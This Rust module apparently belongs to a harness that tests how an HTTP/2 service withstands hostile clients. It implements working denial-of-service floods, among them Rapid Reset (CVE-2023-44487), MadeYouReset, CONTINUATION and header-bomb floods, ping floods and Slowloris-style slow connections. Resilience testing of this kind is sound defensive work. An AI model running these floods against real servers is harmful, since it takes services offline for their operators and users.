//! Attacks on HTTP/2 and below: each does one wrong thing as fast as it can.

use std::{net::SocketAddr, time::Duration};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::TcpStream,
    task::JoinSet,
    time::{Instant, sleep, timeout_at},
};

use crate::hostile::raw::{self, Answered, call, flood, frame, literal, stream};

/// Connections of the slow attacks.
const SLOW: usize = 200;
/// Frames that are written at once.
const AT_ONCE: u32 = 64;

/// Frames of so many calls, made of each one's number.
fn many(nth: u32, mut one: impl FnMut(u32) -> Vec<u8>) -> Vec<u8> {
    (nth * AT_ONCE..(nth + 1) * AT_ONCE).flat_map(&mut one).collect()
}

/// CVE-2023-44487: calls that are made and reset at once.
pub async fn rapid_reset(address: SocketAddr, until: Instant) -> Answered {
    let call = call("Report");
    flood(address, until, false, &[], |nth| {
        many(nth, |nth| {
            let open = frame(raw::HEADERS, raw::END_HEADERS, stream(nth), &call);
            [open, frame(raw::RST_STREAM, 0, stream(nth), &8_u32.to_be_bytes())].concat()
        })
    })
    .await
}

/// CVE-2025-8671: calls that the service itself must reset, since a frame of theirs is wrong.
pub async fn made_to_reset(address: SocketAddr, until: Instant) -> Answered {
    let call = call("Report");
    flood(address, until, false, &[], |nth| {
        many(nth, |nth| {
            let open = frame(raw::HEADERS, raw::END_HEADERS, stream(nth), &call);
            [open, frame(raw::WINDOW_UPDATE, 0, stream(nth), &[0; 4])].concat()
        })
    })
    .await
}

/// RUSTSEC-2024-0332: headers that never end.
pub async fn continuation(address: SocketAddr, until: Instant) -> Answered {
    let begin = frame(raw::HEADERS, 0, stream(0), &call("Report"));
    let more = frame(raw::CONTINUATION, 0, stream(0), &literal("x", &"y".repeat(1_000)));
    flood(address, until, false, &begin, |_| more.clone()).await
}

/// Headers larger than any are taken, some of them small on the way: one entry of the table, named thousands of times.
pub async fn header_bomb(address: SocketAddr, until: Instant) -> Answered {
    let mut block = call("Report");
    let mut entry = literal("bomb", &"b".repeat(3_000));
    entry[0] = 0x40;
    block.extend(entry);
    block.extend([0xbe; 12_000]);
    flood(address, until, false, &[], |nth| frame(raw::HEADERS, raw::END_HEADERS, stream(nth), &block)).await
}

/// RUSTSEC-2026-0258: a call whose body is frames without a byte.
pub async fn empty_data(address: SocketAddr, until: Instant) -> Answered {
    let begin = frame(raw::HEADERS, raw::END_HEADERS, stream(0), &call("Report"));
    flood(address, until, false, &begin, |nth| many(nth, |_| frame(raw::DATA, 0, stream(0), &[]))).await
}

/// More calls at once than a connection may have.
pub async fn streams(address: SocketAddr, until: Instant) -> Answered {
    let call = call("Report");
    flood(address, until, false, &[], |nth| many(nth, |nth| frame(raw::HEADERS, raw::END_HEADERS, stream(nth), &call)))
        .await
}

/// Asks for signs of life, and never reads one.
pub async fn never_reads(address: SocketAddr, until: Instant) -> Answered {
    flood(address, until, true, &[], |nth| many(nth, |_| frame(raw::PING, 0, 0, &[7; 8]))).await
}

/// A message that says it has a gigabyte.
pub async fn giant_message(address: SocketAddr, until: Instant) -> Answered {
    let call = call("Report");
    flood(address, until, false, &[], |nth| {
        let open = frame(raw::HEADERS, raw::END_HEADERS, stream(nth), &call);
        [open, frame(raw::DATA, 0, stream(nth), &[0, 0x40, 0, 0, 0, 1, 2, 3])].concat()
    })
    .await
}

/// Connections that say `bytes` one at a time, and never all of them.
pub async fn slow(address: SocketAddr, until: Instant, bytes: &'static [u8]) -> Answered {
    let mut connections = JoinSet::new();
    for _ in 0..SLOW {
        connections.spawn(async move {
            let Ok(mut socket) = TcpStream::connect(address).await else { return (0, false) };
            let mut sent = 0;
            let talk = async {
                for byte in bytes {
                    if socket.write_all(&[*byte]).await.is_err() {
                        return;
                    }
                    sent += 1;
                    sleep(Duration::from_millis(700)).await;
                }
                let _ = socket.read(&mut [0]).await;
            };
            let closed = timeout_at(until, talk).await.is_ok();
            (sent, closed)
        });
    }
    let mut answered = Answered::default();
    for (sent, closed) in connections.join_all().await {
        answered.connections += 1;
        answered.bytes += sent;
        answered.closed += u64::from(closed);
    }
    answered
}
